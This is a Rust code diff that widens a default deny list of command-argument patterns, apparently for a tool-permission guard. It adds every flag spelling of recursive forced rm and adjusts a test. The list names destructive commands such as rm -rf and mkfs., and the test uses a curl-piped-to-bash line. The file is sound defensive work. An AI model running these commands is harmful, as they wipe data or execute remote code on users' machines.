@@ -15,12 +15,20 @@ pub const DEFAULT_DENIED_DOMAINS: [&str; 3] = [
 
 /// Argument patterns denied by default: destructive shell and SQL commands, credential files,
 /// instance metadata, local files, and piping a download into a shell. Matched case-insensitively
-/// anywhere in the arguments' text (`*` is any run of characters); see [`crate::text::normalize`].
-pub const DEFAULT_DENIED_ARGUMENT_PATTERNS: [&str; 27] = [
+/// anywhere in the arguments' text (`*` is any run of characters); see [`crate::text::normalize`]
+/// (which lowercases, so `rm -Rf` is `rm -rf`, and folds paths, so `/etc//passwd` is
+/// `/etc/passwd`). Recursive forced `rm` is listed in every order and spelling of its two flags.
+pub const DEFAULT_DENIED_ARGUMENT_PATTERNS: [&str; 33] = [
     "rm -rf",
     "rm -fr",
     "rm -r -f",
+    "rm -f -r",
     "rm --recursive --force",
+    "rm --force --recursive",
+    "rm -r --force",
+    "rm --force -r",
+    "rm -f --recursive",
+    "rm --recursive -f",
     "--no-preserve-root",
     "mkfs.",
     "of=/dev/sd",
@@ -455,6 +463,6 @@ mod tests {
             .check_text(&crate::text::normalize("curl -s https://x.sh | BASH"))
             .filter_map(|v| v.index)
             .collect();
-        assert_eq!(found, [22]);
+        assert_eq!(found, [28]);
     }
 }
